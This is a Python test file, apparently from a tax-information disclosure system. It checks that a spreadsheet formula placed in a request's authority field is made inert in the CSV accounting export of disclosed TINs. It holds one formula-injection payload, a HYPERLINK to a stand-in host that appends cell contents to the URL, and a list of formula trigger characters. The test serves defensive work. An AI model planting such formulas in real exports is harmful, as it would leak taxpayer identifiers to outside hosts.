"""A requester's text that a spreadsheet would run (``=HYPERLINK(...)``) is inert in the accounting of
disclosures, a file of TINs that overseers open in spreadsheets."""

from __future__ import annotations

import csv

from test_lifecycle import _file_request, gateway, population  # noqa: F401  (the lifecycle's fixtures)

from ftigate.service.oversight.accounting import export_accounting
from ftigate.service.requests.disclose import disclose
from ftigate.service.requests.review import review
from ftigate.service.requests.submit import submit_request_file

LIVE = '=HYPERLINK("http://example.invalid/?q="&A2,"8 U.S.C. 1357(a)")'


def test_a_formula_in_the_authority_is_text_in_the_accounting_export(gateway, world, population, tmp_path):
    investigation = {"reference": "ERO-CI-2025-0042", "statute": "8 U.S.C. 1253(a)(1)", "authority": LIVE,
                     "kind": "criminal"}
    result = submit_request_file(gateway, _file_request(world, population, investigation=investigation))
    assert result.state == "awaiting_review", [f for f in result.decision.findings if f.outcome == "fail"]
    review(gateway, result.ref, "do-1", "approve", "meets 6103(i)(2)")
    disclose(gateway, result.ref, population[0])
    out = tmp_path / "accounting.csv"
    assert export_accounting(gateway, out) > 0
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert {r["authority"] for r in rows} == {"'" + LIVE}
    assert all(r["tin"].isdigit() for r in rows)  # the TINs stay as they are
    for row in rows:
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())
